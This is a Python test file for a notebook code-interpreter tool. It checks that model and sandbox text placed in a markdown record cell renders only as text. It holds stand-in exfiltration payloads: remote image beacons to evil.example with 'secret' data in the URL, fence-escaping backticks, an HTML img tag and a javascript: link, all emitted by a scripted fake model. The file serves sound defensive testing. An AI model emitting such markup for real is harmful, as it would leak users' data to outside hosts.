"""The record cell (a markdown cell of the attempts) holds text from the model and the sandbox: rendered by a
CommonMark renderer, none of it may become markup — above all no remote image, which the browser would fetch
on every opening of the notebook with the user's data in its URL. No kernel: the executor is scripted."""

from __future__ import annotations

import re
from pathlib import Path

from conftest import fenced
from markdown_it import MarkdownIt

from ci_magic.core.results import ExecutionResult
from ci_magic.core.settings import Settings
from ci_magic.engine.interpreter import Interpreter
from ci_magic.notebook.cells import cells_for
from ci_magic.providers.fake import FakeModelServer
from ci_magic.sandbox.fake import ScriptedExecutor

BEACON = "https://evil.example/b.png?data=secret"
ESCAPES = (
    "```\n\n![x](" + BEACON + ")\n\n````\n"  # closes a fence of three or four backticks
    "~~~\n<img src='" + BEACON + "'>\n"
    "[r]: " + BEACON + "\n![y][r]\n"
    "</details>\n\n<a href='javascript:alert(1)'>click</a>\n"
)


def test_sandbox_text_in_the_record_cell_stays_text(
    fake: FakeModelServer, settings: Settings, tmp_path: Path
) -> None:
    hostile = ExecutionResult("error", [], "ValueError", ESCAPES, "Traceback:\n" + ESCAPES, seconds=0.1)
    executor = ScriptedExecutor([hostile, "done\n"])
    fake.add(fenced("print('```')\n" + "# " + ESCAPES.replace("\n", "\n# ")), fenced("print('done')"))
    with Interpreter(settings, executor=executor, user_dir=tmp_path) as it:
        result = it.ask("![q](" + BEACON + ") summarise")
    result.warnings.append("a warning ![w](" + BEACON + ") <img src=" + BEACON + ">")
    record = cells_for(result).record_cell.source
    rendered = MarkdownIt("commonmark", {"html": True}).render(record)
    assert not re.search(r"<img[^>]*src=['\"]?https?:", rendered), rendered
    assert "javascript:" not in re.sub(r"<code[^>]*>.*?</code>", "", rendered, flags=re.S), rendered
    assert "<a " not in rendered
    # ...and still says what happened, in full
    assert rendered.count("evil.example") >= 4 and "Traceback:" in rendered
